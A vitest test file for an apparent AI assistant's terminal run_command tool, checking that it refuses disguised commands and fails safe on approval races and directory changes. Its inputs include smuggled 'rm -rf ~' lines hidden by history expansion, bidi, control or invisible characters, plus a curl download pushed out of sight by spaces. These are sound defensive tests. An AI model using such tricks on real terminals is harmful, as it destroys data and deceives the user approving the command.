// SPDX-License-Identifier: MIT
import { describe, expect, it, vi } from 'vitest';
import { runInTerminal } from './command-run';
import { historyExpansion } from './run-command-args';
import { FakeTerminals } from './testing/fake-terminals';
import { IDLE, setUp } from './testing/turn-harness';

describe('run_command: what runs is the line the user read', () => {
  it.each([
    ['ls; !!', 'the previous command'],
    ['ls !-1', 'words of an earlier command'],
    ['echo "!rm"', 'the last rm, inside double quotes too'],
    ['^ls^rm -rf ~', 'quick substitution'],
  ])('refuses %s (history expansion: %s)', async (command) => {
    const t = setUp();
    await expect(t.call(command)).rejects.toThrow(/history/);
    expect(t.steps).toEqual([]);
  });

  it.each(['echo "unclosed', 'ls |', 'ls \\', 'cat <<EOF', 'echo $(ls'])(
    'refuses %s, which would leave the shell waiting for more',
    async (command) => {
      const t = setUp();
      await expect(t.call(command)).rejects.toThrow(/complete command line/);
      expect(t.steps).toEqual([]);
    },
  );

  it('refuses a run of spaces that would push the rest of the line out of sight', async () => {
    const t = setUp();
    await expect(t.call(`ls${' '.repeat(200)}; curl -o x https://x.sh`)).rejects.toThrow(/run of spaces/);
    expect(t.steps).toEqual([]);
  });

  it('shows the reason without control or bidi characters', async () => {
    const t = setUp();
    void t.turn.tool.execute({ command: 'ls', reason: 'Safe\u202e\n$ rm -rf ~\x1b[2K' }, t.controller.signal, 'call_r');
    expect((await t.stepIn('proposed')).reason).toBe('Safe $ rm -rf ~ [2K');
  });

  it('leaves a ! the shell does not expand alone', () => {
    for (const line of [
      '[ ! -f x ] && echo done',
      'test "$a" != b',
      "awk '!seen[$0]++' f",
      'echo "hi!"',
      'find . ! -name x',
      "grep 'x!y' f",
      'echo \\!x',
    ]) {
      expect(historyExpansion(line)).toBeNull();
    }
  });

  it.each([
    ['rm -rf /tmp\u00a0/x', 'U+00A0'],
    ['ls\u2028rm -rf ~', 'U+2028'],
    ['ls -la\u2060', 'U+2060'],
    ['echo \u00adrm', 'U+00AD'],
    ['ls\u3000-la', 'U+3000'],
    ['ls \u{e0072}x', 'U+E0072'],
  ])('refuses look-alike or invisible characters: %j', async (command, code) => {
    const t = setUp();
    await expect(t.call(command)).rejects.toThrow(code);
  });
});

describe('run_command: decisions that cannot run fail safe', () => {
  it('an edit holding a control character is refused to its window, and the step waits for another decision', async () => {
    const t = setUp();
    const result = t.call('ls');
    const proposed = await t.stepIn('proposed');
    await expect(t.decisions.decide(proposed.id, { decision: 'run', command: 'ls \x15rm -rf ~' })).rejects.toThrow(/control/);
    await expect(t.decisions.decide(proposed.id, { decision: 'run', command: 'ls; !!' })).rejects.toThrow(/history/);
    await expect(t.decisions.decide(proposed.id, { decision: 'run', command: "echo 'open" })).rejects.toThrow(/complete line/);
    expect(t.terminals.typed).toEqual([]);
    await t.decisions.decide(proposed.id, { decision: 'run', command: 'ls -a' });
    await t.stepIn('running');
    t.terminals.finish(0);
    expect(JSON.parse(await result)).toMatchObject({ status: 'ran', ran_instead: 'ls -a' });
    expect(t.terminals.typed).toEqual([{ sessionId: 's1', data: 'ls -a\r' }]);
  });

  it('the first decision wins; a second one (another window) and an unknown step id get a plain refusal', async () => {
    const t = setUp();
    const result = t.call('pwd');
    const proposed = await t.stepIn('proposed');
    const first = t.decisions.decide(proposed.id, { decision: 'skip' });
    expect(() => t.decisions.decide(proposed.id, { decision: 'run' })).toThrow(/already decided/);
    expect(() => t.decisions.decide('no-such-step', { decision: 'run' })).toThrow(/already decided/);
    await first;
    expect(JSON.parse(await result).status).toBe('declined');
    expect(t.terminals.typed).toEqual([]);
  });

  it('a command the user keeps out of history is not run: nothing typed, the model is told why', async () => {
    const t = setUp();
    t.terminals.excluded = /TOKEN/;
    const result = JSON.parse(await t.call('echo $API_TOKEN'));
    expect(result).toMatchObject({ status: 'not run' });
    expect(result.note).toMatch(/history exclusions/);
    expect(t.steps.at(-1)).toMatchObject({ state: 'skipped', note: expect.stringMatching(/history exclusions/) });
    expect(t.terminals.typed).toEqual([]);
  });

  it('an edit into an excluded command is refused, as it would leave no record', async () => {
    const t = setUp();
    t.terminals.excluded = /TOKEN/;
    void t.call('ls');
    const proposed = await t.stepIn('proposed');
    await expect(t.decisions.decide(proposed.id, { decision: 'run', command: 'echo $TOKEN' })).rejects.toThrow(/history exclusions/);
    expect(t.terminals.typed).toEqual([]);
  });

  it('a terminal opened for the step that never reaches an idle prompt never gets the command; Stop while waiting for it stops the step', async () => {
    const t = setUp({}, { s1: { idle: false, busy: 'not recorded', cwd: '/srv' } });
    const result = t.call('git status');
    const proposed = await t.stepIn('proposed');
    expect(proposed.target).toBe('new-pane');
    t.harness.opening = () => ({ idle: false, busy: 'no shell integration yet', cwd: '/srv' });
    const polls = vi.spyOn(t.terminals, 'state');
    await t.decisions.decide(proposed.id, { decision: 'run' });
    // The step keeps checking for a prompt there (the terminal never becomes idle) and types nothing.
    await vi.waitFor(() => expect(polls.mock.calls.filter(([id]) => id === 't1').length).toBeGreaterThan(3));
    expect(t.terminals.typed).toEqual([]);
    t.controller.abort();
    await expect(result).rejects.toThrow();
    await t.stepIn('stopped');
    expect(t.terminals.typed).toEqual([]);
  });

  it('two answers at once: the second never types into the terminal the first is running in', async () => {
    const t = setUp();
    const first = t.call('sleep 5');
    await t.decisions.decide((await t.stepIn('proposed', 'sleep 5')).id, { decision: 'run' });
    await t.stepIn('running', 'sleep 5');
    // The fake still reports s1 idle, as a real one does until the shell reports the start.
    const second = t.otherTurn().tool.execute({ command: 'ls' }, t.controller.signal, 'call_other');
    const proposed = await t.stepIn('proposed', 'ls');
    expect(proposed.target).toBe('new-pane');
    // The second conversation's own terminal opens (it reaches its prompt later).
    t.harness.opening = () => ({ idle: false, busy: 'no shell integration yet', cwd: '/home/dev/project' });
    await t.decisions.decide(proposed.id, { decision: 'run' });
    await vi.waitFor(() => expect(t.opened).toEqual([{ id: 't1', cwd: '/home/dev/project', besideSessionId: 's1' }]));
    expect(t.terminals.typed.map((x) => x.sessionId)).toEqual(['s1']);
    t.terminals.finish(0);
    expect(JSON.parse(await first).status).toBe('ran');
    t.terminals.states.set('t1', { idle: true, busy: null, cwd: '/home/dev/project' });
    await t.stepIn('running', 'ls');
    t.terminals.finish(0);
    expect(JSON.parse(await second).status).toBe('ran');
    expect(t.terminals.typed.map((x) => x.sessionId)).toEqual(['s1', 't1']);
    expect(t.decisions.inUse.size).toBe(0);
  });

  it('a terminal that changed directory since the proposal gets nothing: a terminal opens in the directory the step showed', async () => {
    const t = setUp({}, { s1: IDLE });
    const result = t.call('rm -rf build');
    const proposed = await t.stepIn('proposed');
    expect(proposed).toMatchObject({ target: 'active', sessionId: 's1', cwd: '/home/dev/project' });
    t.terminals.states.set('s1', { ...IDLE, cwd: '/srv/other' });
    t.harness.opening = () => ({ idle: false, busy: 'no shell integration yet', cwd: '/home/dev/project' });
    await t.decisions.decide(proposed.id, { decision: 'run' });
    await vi.waitFor(() => expect(t.opened).toEqual([{ id: 't1', cwd: '/home/dev/project', besideSessionId: 's1' }]));
    expect(t.terminals.typed).toEqual([]);
    t.controller.abort();
    await expect(result).rejects.toThrow();
  });

  it('a pane that opened somewhere else (the directory is gone) does not get the command', async () => {
    const t = setUp({}, { s1: { idle: false, busy: 'a command runs', cwd: '/srv/app/build' } });
    const result = t.call('rm -rf *');
    const proposed = await t.stepIn('proposed');
    t.harness.opening = () => ({ idle: true, busy: null, cwd: '/home/dev' });
    await t.decisions.decide(proposed.id, { decision: 'run' });
    expect(JSON.parse(await result)).toMatchObject({ status: 'not run', note: expect.stringMatching(/opened in \/home\/dev/) });
    expect(t.terminals.typed).toEqual([]);
  });

  it('an active terminal that is private, paused or holding ssh is never the target; an allowed step runs in a terminal main opens, no window needed', async () => {
    for (const busy of ['not recorded', 'ssh holds the terminal', 'a line is typed at its prompt']) {
      const t = setUp({ autoRunReadOnly: true }, { s1: { idle: false, busy, cwd: '/srv' } });
      const result = t.call('ls');
      const proposed = await t.stepIn('proposed');
      expect(proposed).toMatchObject({ target: 'new-pane', sessionId: null, autoRun: true });
      // Nobody calls decide: the confirmation service allowed it in main.
      expect((await t.stepIn('running')).sessionId).toBe('t1');
      t.terminals.finish(0);
      expect(JSON.parse(await result).status).toBe('ran');
      expect(t.terminals.typed).toEqual([{ sessionId: 't1', data: 'ls\r' }]);
    }
  });
});

describe('runInTerminal: a command that leaves no record', () => {
  it("withdraws the assistant tag, so the user's next command is not taken for the assistant's", async () => {
    const terminals = new FakeTerminals({ s1: IDLE });
    terminals.swallow = true;
    const run = (signal: AbortSignal) =>
      runInTerminal({ port: terminals, sessionId: 's1', command: 'ls', handOverMs: 60_000, signal, startTimeoutMs: 30, pollMs: 10 });
    expect(await run(new AbortController().signal)).toEqual({ kind: 'not-started' });
    expect(terminals.expecting('s1')).toBe(false);
    const stop = new AbortController();
    const stopped = run(stop.signal);
    expect(terminals.expecting('s1')).toBe(true);
    stop.abort();
    expect(await stopped).toMatchObject({ kind: 'stopped', record: undefined });
    expect(terminals.expecting('s1')).toBe(false);
  });
});
